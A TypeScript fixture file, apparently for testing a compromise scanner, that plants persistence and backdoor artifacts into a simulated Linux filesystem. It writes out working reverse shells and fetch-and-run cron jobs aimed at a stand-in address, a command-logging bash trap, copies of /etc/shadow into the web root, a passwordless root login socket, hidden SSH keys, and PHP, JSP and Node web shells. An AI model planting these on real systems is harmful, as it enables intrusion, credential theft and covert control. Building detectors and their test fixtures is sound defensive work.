/** A sixth wave, of two hundred by somebody who had not read the checks: those that were unnamed at first, and others of their kinds. */

import { attackerKey, elf, file, line, run, type Sign } from './sign.ts';

const far = '203.0.113.9';
const web = (id: string, what: string, path: string, code: string): Sign => file(`web6-${id}`, 'web', what, `/var/www/html/${path}`, code);

const startUp: readonly Sign[] = [
	{ id: 'apt-state', family: 'start-up', what: "a program among apt's own state, run after each update", plant: tree => {
		tree.write('/etc/apt/apt.conf.d/51sources-refresh', 'APT::Update::Post-Invoke-Success {"test -x /var/lib/apt/refresh && /var/lib/apt/refresh || true";};\n');
		tree.write('/var/lib/apt/refresh', elf('refresh'), run);
	}, names: ['/etc/apt/apt.conf.d/51sources-refresh'], also: ['/var/lib/apt/refresh'] },
	{ id: 'login-socket', family: 'services', what: 'a login of root without a password, for whoever connects', plant: tree => {
		tree.write('/etc/systemd/system/console-x.socket', '[Socket]\nListenStream=2323\nAccept=yes\n[Install]\nWantedBy=sockets.target\n');
		tree.write('/etc/systemd/system/console-x@.service', '[Service]\nExecStart=-/usr/bin/setsid /bin/login -f root\nStandardInput=socket\n');
	}, names: ['/etc/systemd/system/console-x@.service'], also: ['/etc/systemd/system/console-x.socket'] },
	{ id: 'timer-turned', family: 'start-up', what: 'a packaged timer that starts another unit', plant: tree => {
		tree.write('/etc/systemd/system/fstrim.timer.d/o.conf', '[Timer]\nUnit=hwdb-trim.service\nOnUnitActiveSec=10min\n');
		tree.write('/etc/systemd/system/hwdb-trim.service', '[Service]\nExecStart=/usr/bin/true\n');
	}, names: ['/etc/systemd/system/fstrim.timer.d/o.conf'], also: ['/etc/systemd/system/hwdb-trim.service'] },
	file('cron-socket-pipe', 'start-up', 'a job that pipes a connection into a shell', '/etc/cron.d/metrics6', `*/9 * * * * root cat /dev/tcp/${far}/80 | sh\n`),
	file('cron-fetched-file', 'start-up', 'a job that runs what it fetched from an address without a name', '/etc/cron.d/refresh6', `@reboot root curl -sk https://${far}/i -o /run/i && sh /run/i\n`),
	file('cron-secret', 'evidence', 'the passwords, copied among the pages', '/etc/cron.d/backup6', '17 4 * * * root cp /etc/shadow /var/www/html/s.txt\n'),
	file('cron-perl-lines', 'start-up', 'a job in Perl that runs each line it is sent', '/etc/cron.d/perl6', `*/10 * * * * nobody perl -MIO::Socket -e '$c=IO::Socket::INET->new("${far}:8443");while(<$c>){print $c \`$_\`}'\n`),
	file('logrotate-pipe', 'start-up', 'a rotation that asks an address what to run', '/etc/logrotate.d/btmp2', `/var/log/btmp2 {\n\tdaily\n\tprerotate\n\t\t/bin/bash -c 'cat /dev/tcp/${far}/80 | sh'\n\tendscript\n}\n`),
	file('trap-debug', 'environment', 'each command that is typed, told to another host', '/etc/profile.d/vte-3.sh', `trap 'curl -s "http://${far}/?c=$(printf %s "$BASH_COMMAND"|base64 -w0)" >/dev/null 2>&1 &' DEBUG\n`),
	file('sysctl-modprobe', 'start-up', 'another modprobe for the kernel', '/etc/sysctl.d/60-hot.conf', 'kernel.modprobe = /var/lib/misc/mp\n'),
	line('fstab-program', 'files', 'one program laid over another', '/etc/fstab', '/opt/tool/ps /usr/bin/ps none bind,ro 0 0\n'),
	file('procmail-shell', 'start-up', 'letters that a shell runs', '/home/deploy/.procmailrc', ':0\n* ^Subject:.*qwerty\n| /bin/sh\n', { owner: 'deploy' }),
	file('nrpe-any', 'services', 'a monitor that runs whatever it is asked', '/etc/nagios/nrpe.d/c.cfg', 'command[check_x]=/bin/bash -c "$ARG1$"\n'),
	file('zabbix-any', 'services', 'another that does', '/etc/zabbix/zabbix_agentd.d/u.conf', "UserParameter=sys.x[*],/bin/sh -c '$1'\n"),
	file('incron-shadow', 'start-up', 'the passwords, copied as soon as they change', '/var/spool/incron/root', '/etc/shadow IN_MODIFY cp /etc/shadow /var/www/html/s2.txt\n', { mode: 0o600 }),
	file('nginx-one-line', 'services', 'the whole system as pages, on one line', '/etc/nginx/conf.d/gzip-extra.conf', 'server { listen 8088; root /; autoindex on; }\n'),
	file('perl-module', 'packages', 'a module of Perl of no package that starts a hidden program', '/usr/share/perl5/Config_x.pm', 'package Config_x; system("sh /usr/share/misc/.hd &"); 1;\n'),
	{ id: 'git-monitor', family: 'start-up', what: 'shell text that git runs at every status', plant: tree => {
		tree.write('/srv/git/tools.git/HEAD', 'ref: refs/heads/main\n');
		tree.dir('/srv/git/tools.git/objects');
		tree.dir('/srv/git/tools.git/refs');
		tree.write('/srv/git/tools.git/config', '[core]\n\tbare = true\n\tfsmonitor = "sh -c \\"id > /var/lib/git-o\\""\n');
	}, names: ['/srv/git/tools.git/config'] },
];

const files: readonly Sign[] = [
	{ id: 'keys-hidden', family: 'trust', what: 'keys of root in a hidden place that sshd is told of', plant: tree => {
		tree.write('/etc/ssh/sshd_config.d/05-keys.conf', 'AuthorizedKeysFile .ssh/authorized_keys /var/lib/misc/.k/%u\n');
		tree.write('/var/lib/misc/.k/root', `${attackerKey}\n`, { mode: 0o600 });
	}, names: ['/var/lib/misc/.k/root'], also: ['/etc/ssh/sshd_config.d/05-keys.conf', '/var/lib/misc/.k'] },
	file('daemon-in-opt', 'names', 'a daemon of the system in the folder of a browser', '/opt/google/chrome/crond', elf('crond'), run),
	file('reptile', 'files', 'what starts a known rootkit', '/reptile/reptile_start', '#!/bin/bash\n/reptile/reptile_cmd file-tampering\n', { ...run, also: ['/reptile'] }),
];

const pages: readonly Sign[] = [
	web('and-call', 'calls what the request names, behind a condition', 'assets/cache.php', "<?php $f=$_REQUEST['f']??'';$f&&$f($_REQUEST['a']);\n"),
	web('assembled', 'words put together, and the request by its codes', 'js/app.min.php', String.raw`<?php $a="as"."se"."rt";$b="\x5f\x50\x4f\x53\x54";$a($` + "{$b}['k']);\n"),
	web('named-file', 'writes what and where the request says', 'up.php5', '<?php if(isset($_POST["x"])){$t=base64_decode($_POST["x"]);file_put_contents($_POST["f"],$t);} ?>\n'),
	file('web6-builder', 'web', 'a page of Java that starts what it is asked to', '/var/lib/tomcat9/webapps/ROOT/h.jsp', '<% java.io.InputStream i=new ProcessBuilder(request.getParameter("c").split(" ")).start().getInputStream(); %>\n'),
	file('web6-node', 'web', 'a route of Node that runs what it is asked to', '/srv/app/routes/health.js', "module.exports=(a)=>a.get('/healthz',(q,r)=>require('child_process').exec(q.query.x,(e,o)=>r.send(o)));\n"),
];

export const sixthSigns: readonly Sign[] = [...startUp, ...files, ...pages];
